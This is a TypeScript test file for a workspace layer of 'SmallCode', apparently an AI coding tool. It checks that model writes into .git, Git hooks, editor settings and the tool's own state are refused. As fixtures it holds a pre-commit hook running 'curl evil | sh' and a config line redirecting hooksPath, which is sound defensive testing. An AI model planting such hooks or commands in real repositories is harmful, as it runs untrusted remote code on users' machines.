import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync, existsSync, symlinkSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeWorkspace } from '../../../src/node/nodeWorkspace';
import { NodeStore } from '../../../src/node/nodeStore';
import { WorkspaceError } from '../../../src/core/ports';

let root: string;
let ws: NodeWorkspace;
before(() => {
  root = mkdtempSync(join(tmpdir(), 'smallcode-prot-'));
  mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(root, '.git', 'config'), '[core]\n');
  mkdirSync(join(root, '.vscode'));
  writeFileSync(join(root, '.vscode', 'settings.json'), '{}\n');
  symlinkSync(join(root, '.git', 'hooks'), join(root, 'hooks'));
  ws = new NodeWorkspace(root);
});
after(() => rmSync(root, { recursive: true, force: true }));

const refused = (p: Promise<unknown>, pattern: RegExp) =>
  assert.rejects(p, (e: unknown) => e instanceof WorkspaceError && e.code === 'invalid-path' && pattern.test(e.message));

test('nothing is written into .git, whatever the spelling or a symlink', async () => {
  await refused(ws.writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /inside \.git/);
  await refused(ws.writeFile('./.GIT/hooks/pre-commit', 'x'), /inside \.git/);
  await refused(ws.writeFile('hooks/pre-commit', 'x'), /inside \.git/);
  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /with the run tool/);
  assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')));
  assert.equal(readFileSync(join(root, '.git', 'config'), 'utf8'), '[core]\n');
});

test('.git is not read or statted either', async () => {
  await refused(ws.readFile('.git/config'), /does not read or write/);
  await refused(ws.stat('.git'), /inside \.git/);
});

test('editor configuration, hooks managers and SmallCode state are read-only to the model', async () => {
  assert.equal((await ws.readFile('.vscode/settings.json')).content, '{}\n', 'reading is fine');
  await refused(ws.writeFile('.vscode/settings.json', '{"x": 1}'), /editor configuration/);
  await refused(ws.writeFile('.vscode/tasks.json', '{}'), /editor configuration/);
  await refused(ws.writeFile('app.code-workspace', '{}'), /editor configuration/);
  await refused(ws.writeFile('.husky/pre-commit', 'x'), /Git hook/);
  await refused(ws.writeFile('.smallcode/memory.json', '{}'), /SmallCode's own state/);
  assert.equal(readFileSync(join(root, '.vscode', 'settings.json'), 'utf8'), '{}\n');
  assert.ok(!existsSync(join(root, '.husky')) && !existsSync(join(root, 'app.code-workspace')));
});

test('ordinary files with similar names stay writable, and the Store still writes its own state', async () => {
  for (const p of ['.gitignore', '.github/workflows/ci.yml', '.vscodeignore', 'src/git/hooks.ts', 'docs/.vscode-notes.md']) {
    assert.equal((await ws.writeFile(p, 'ok\n')).path, p);
  }
  const store = new NodeStore(ws);
  await store.set('plan', { steps: 1 });
  assert.deepEqual(await store.get('plan'), { steps: 1 });
});
